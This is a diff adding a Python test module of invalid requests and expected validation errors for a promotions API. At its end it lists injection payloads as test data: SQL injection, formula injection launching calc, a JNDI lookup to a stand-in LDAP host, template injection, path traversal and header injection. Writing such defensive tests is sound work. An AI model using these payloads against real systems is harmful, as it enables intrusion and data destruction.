@@ -1,0 +1,231 @@
+"""Requests that are wrong in themselves, by what is wrong with them, and what hides in their strings."""
+
+import json
+from collections.abc import Iterator
+from typing import Any
+
+from tests.support.answers import (
+    NO_OBJECT,
+    NOT_DECLARED_AS_JSON,
+    NOT_JSON,
+    TOO_DEEP,
+    TOO_LARGE,
+    Element,
+    failure,
+    fault,
+    invalid,
+    required,
+    too_many_codes,
+)
+from tests.support.cloud import PROMOTION, Answer
+from tests.support.gateway import Request
+
+Case = tuple[Request, Answer]
+
+PROMOTIONS = "/v2/promotions"
+P = f"{PROMOTIONS}/<P>"
+"""The path of the promotion that a test has stored."""
+
+WITH_A_BODY = (f"POST {PROMOTIONS}", f"PUT {P}", f"POST {P}/codes", f"DELETE {P}/codes", f"POST {P}/jobs")
+
+NO_JSON: tuple[str | bytes, ...] = (
+    "",
+    "{",
+    "{'type': 'promotion'}",
+    '{"type": "promotion"} {}',
+    '{"type": "promotion",}',
+    '{"type": NaN}',
+    '{"type": Infinity}',
+    '{"type": -Infinity}',
+    '{"type": 1e999}',
+    '{"type": ' + "9" * 5_000 + "}",
+    '{"type": 0x10}',
+    '{"type": "\0"}',
+    "\0",
+    b'{"type": "\xff"}',
+    b'{"type": "\xed\xa0\x80"}',
+    b"\xef\xbb\xbf{}",
+    "{}".encode("utf-16"),
+    "[" * 100_000,
+    '{"type": ' + "[" * 100_000 + "]" * 100_000 + "}",
+    "type=promotion&name=x",
+    "<promotion/>",
+)
+NO_OBJECTS = ("[]", "null", "true", "5", '"text"', '{"data": []}', '{"data": null}', '{"data": "text"}', "[{}]")
+DEEP = ('{"schema": ' + "[" * 51 + "]" * 51 + "}", '{"a":' * 51 + "{}" + "}" * 51)
+OTHER_TYPES = ("text/plain", "text/json", "application/xml", "application/x-www-form-urlencoded", "json", "*/*", "\0")
+
+
+def bodies() -> Iterator[Case]:
+    """What is wrong with a body wherever one is sent."""
+    for line in WITH_A_BODY:
+        yield from ((Request(line, body), NOT_JSON) for body in NO_JSON)
+        yield from ((Request(line, body), NO_OBJECT) for body in NO_OBJECTS)
+        yield from ((Request(line, body), TOO_DEEP) for body in DEEP)
+        yield from ((Request(line, "{}", {"content-type": it}), NOT_DECLARED_AS_JSON) for it in OTHER_TYPES)
+        yield Request(line, " " * 1_000_001), TOO_LARGE
+        yield Request(line, json.dumps({"name": "é" * 500_000}, ensure_ascii=False)), TOO_LARGE
+
+
+def wrong(line: str, data: Any, *elements: Element) -> Case:
+    """JSON that is sent, and the faults in it."""
+    return Request(line, json.dumps({"data": data})), failure(400, *elements)
+
+
+HUGE = 10**4_000
+JOB = {"type": "promotion_job", "job_type": "code_generate", "parameters": {"number_of_codes": 1}}
+PREFIX = "must be at most 32 letters, digits, - and _, and start with a letter or digit"
+CODE = "must be at most 64 letters, digits, - and _, and start with a letter or digit"
+JOB_TYPE = "must be one of code_generate, code_export"
+UNIT = "must be 'per_cart' or 'per_item'"
+WHOLE = "must be a whole number"
+DATE = "must be a date like 2026-06-01, or one with a time like 2026-06-01T12:00:00Z"
+PROMOTION_TYPE = (
+    "must be 'fixed_discount', 'percent_discount', 'item_fixed_discount', 'item_percent_discount', 'x_for_y', "
+    "'x_for_amount', 'bundle_fixed_discount' or 'bundle_gift'"
+)
+
+# Member, value, rule.
+PARAMETERS: tuple[tuple[str, Any, str], ...] = (
+    ("number_of_codes", 0, "must be at least 1"),
+    ("number_of_codes", -HUGE, "must be at least 1"),
+    ("number_of_codes", "1", WHOLE),
+    ("number_of_codes", 1.0, WHOLE),
+    ("number_of_codes", True, WHOLE),
+    ("number_of_codes", None, WHOLE),
+    ("number_of_codes", {}, WHOLE),
+    ("code_length", 7, "must be at least 8"),
+    ("code_length", HUGE, "must be at most 16"),
+    ("code_length", 8.5, WHOLE),
+    ("max_uses_per_code", -1, "must be at least 0"),
+    ("max_uses_per_code", HUGE, "must be at most 1000000000"),
+    ("max_uses_per_code", "many", WHOLE),
+    ("consume_unit", "per_checkout", UNIT),
+    ("consume_unit", ["per_cart"], UNIT),
+    ("code_prefix", "", PREFIX),
+    ("code_prefix", "x" * 33, PREFIX),
+    ("code_prefix", "\0", PREFIX),
+    ("code_prefix", "été", PREFIX),
+    ("code_prefix", 5, "must be text"),
+    ("codes", 5, "is not a parameter of this job"),
+    ("", 5, "is not a parameter of this job"),
+)
+MEMBERS: tuple[tuple[str, Any, str], ...] = (
+    ("type", "promotion_job", "must be 'promotion'"),
+    ("type", ["promotion"], "must be 'promotion'"),
+    ("name", "", "must have at least 1 characters"),
+    ("name", "x" * 256, "must have at most 255 characters"),
+    ("name", "\ud800", "must be text"),
+    ("description", None, "must be text"),
+    ("enabled", "true", "must be true or false"),
+    ("automatic", 1, "must be true or false"),
+    ("promotion_type", "free", PROMOTION_TYPE),
+    ("schema", [], "must be an object"),
+    ("schema", "{}", "must be an object"),
+    ("min_cart_value", {}, "must be a list"),
+    ("max_discount_value", 5, "must be a list"),
+    ("max_applications_per_cart", -HUGE, "must be at least 0"),
+    ("max_applications_per_cart", 0.5, WHOLE),
+    ("max_codes", 0, "must be at least 1"),
+    ("max_codes", HUGE, "must be at most 10000000"),
+    ("max_codes", "1000", WHOLE),
+    ("start", "soon", DATE),
+    ("start", "2026-13-01", DATE),
+    ("start", "0001-01-01T00:00:00+23:59", DATE),
+    ("start", 1_780_315_200, "must be text"),
+    ("end", "9999-12-31T23:59:59-23:59", DATE),
+    ("end", "\ud800", DATE),
+)
+OF_A_CODE: tuple[tuple[str, Any, str], ...] = (
+    ("code", None, "must be text"),
+    ("code", 5, "must be text"),
+    ("code", "", CODE),
+    ("code", "x" * 65, CODE),
+    ("code", "a b", CODE),
+    ("code", "\0", CODE),
+    ("code", "\ud800", CODE),
+    ("uses", -1, "must be at least 0"),
+    ("uses", HUGE, "must be at most 1000000000"),
+    ("uses", 1.5, WHOLE),
+    ("user", "x" * 256, "must have at most 255 characters"),
+    ("user", "\ud800", "must be text"),
+    ("consume_unit", "", UNIT),
+)
+
+
+def values() -> Iterator[Case]:
+    """One member of a body that breaks its rule."""
+    for name, value, rule in PARAMETERS:
+        job = JOB | {"parameters": {"number_of_codes": 1, name: value}}
+        yield wrong(f"POST {P}/jobs", job, fault(f"data.parameters.{name}", f"{name} {rule}"))
+    for name, value, rule in MEMBERS:
+        yield wrong(f"POST {PROMOTIONS}", {**PROMOTION, name: value}, invalid(f"data.{name}", rule))
+        yield wrong(f"PUT {P}", {name: value}, invalid(f"data.{name}", rule))
+    for name, value, rule in OF_A_CODE:
+        sent: dict[str, Any] = {"type": "promotion_codes", "codes": [{"code": "A", name: value}]}
+        yield wrong(f"POST {P}/codes", sent, invalid(f"data.codes.0.{name}", rule))
+
+
+def wholes() -> Iterator[Case]:
+    """More than one thing wrong, or what is wrong as a whole."""
+    job, promotions = f"POST {P}/jobs", f"POST {PROMOTIONS}"
+    yield wrong(job, {}, required("data.job_type"))
+    yield wrong(job, JOB | {"job_type": "code_import"}, invalid("data.job_type", JOB_TYPE))
+    yield wrong(job, JOB | {"job_type": {}}, invalid("data.job_type", JOB_TYPE))
+    yield wrong(job, JOB | {"type": "job"}, invalid("data.type", "must be 'promotion_job'"))
+    yield wrong(job, JOB | {"name": "x" * 51}, invalid("data.name", "must have at most 50 characters"))
+    yield wrong(job, JOB | {"name": "\ud800"}, invalid("data.name", "must be text"))
+    yield wrong(job, JOB | {"parameters": None}, invalid("data.parameters", "must be an object"))
+    yield wrong(job, JOB | {"parameters": {}}, required("data.parameters.number_of_codes"))
+    for number in (1_001, HUGE):
+        too_many = too_many_codes(1_000, "data.parameters.number_of_codes")
+        yield Request(job, json.dumps(JOB | {"parameters": {"number_of_codes": number}})), too_many
+    yield wrong(job, JOB | {"parameters": {"\ud800": 1}}, invalid("data.parameters", "must be text"))
+    members = ("type", "name", "description", "promotion_type", "schema", "start", "end")
+    yield wrong(promotions, {}, *(required(f"data.{name}") for name in members))
+    backwards = fault("data.end", "end must not be before start")
+    yield wrong(promotions, {**PROMOTION, "end": "2020-01-01"}, backwards)
+    yield wrong(f"PUT {P}", {"start": "2999-01-01"}, backwards)
+    bulky = fault("data", "a promotion may have at most 20,000 bytes")
+    yield wrong(promotions, {**PROMOTION, "schema": {"a": "x" * 20_000}}, bulky)
+    yield wrong(f"PUT {P}", {"description": "\0" * 4_000}, bulky)
+    for method in ("POST", "DELETE"):
+        codes = f"{method} {P}/codes"
+        yield wrong(codes, {}, required("data.type"), required("data.codes"))
+        for value, rule in (
+            ({}, "must be a list"),
+            ("A", "must be a list"),
+            ([], "must have at least 1 entries"),
+            ([{"code": "A"}] * 51, "must have at most 50 entries"),
+        ):
+            yield wrong(codes, {"type": "promotion_codes", "codes": value}, invalid("data.codes", rule))
+        unnamed: list[Any] = ["A", {}]
+        elements = invalid("data.codes.0", "must be an object"), required("data.codes.1.code")
+        yield wrong(codes, {"type": "promotion_codes", "codes": unnamed}, *elements)
+    many = {"type": "promotion_codes", "codes": [{"code": ""}] * 50}
+    yield wrong(f"POST {P}/codes", many, *(invalid(f"data.codes.{it}.code", CODE) for it in range(20)))
+
+
+INJECTIONS = (
+    "'; DROP TABLE promotions; --",
+    "' OR '1'='1",
+    "' AND \"sk\" = 'CODE",
+    "\"} VALUE {'pk': 'CODE#x', 'sk': 'CODE'}",
+    "attribute_not_exists(pk) OR #pk = :pk",
+    "#status",
+    ":completed",
+    "SET #room = :room",
+    "=cmd|'/c calc'!A0",
+    "@SUM(1+1)*cmd|'/c calc'!A0",
+    "${jndi:ldap://example.com/a}",
+    "{{7*7}}",
+    "{0.__class__}",
+    "%s%n%x",
+    "<script>alert(1)</script>",
+    "../../etc/passwd",
+    "a\0b",
+    "a\r\nSet-Cookie: a=b",
+    '{"$ref": "#"}',
+    "CODE#x",
+    "PROMOTION#x\nJOB#y",
+)
